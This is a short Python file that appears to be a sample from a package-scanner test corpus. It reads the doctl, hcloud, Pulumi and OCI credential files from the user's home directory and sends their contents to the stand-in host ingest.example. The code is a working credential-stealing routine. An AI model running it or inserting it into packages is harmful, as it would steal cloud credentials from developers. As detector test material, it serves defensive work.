# pkgguard corpus 423 (credentials), modelled on [stealer-profile]; inert, never run.
import io
import os

import pycurl

home = os.path.expanduser("~")
blobs = {}
for rel in (".config/doctl/config.yaml", ".config/hcloud/cli.toml", ".pulumi/credentials.json", ".oci/config"):
    path = os.path.join(home, rel)
    if os.path.exists(path):
        with open(path) as fh:
            blobs[rel] = fh.read()

c = pycurl.Curl()
c.setopt(pycurl.URL, "https://ingest.example/k")
c.setopt(pycurl.POSTFIELDS, repr(blobs))
c.setopt(pycurl.WRITEDATA, io.BytesIO())
c.perform()
c.close()
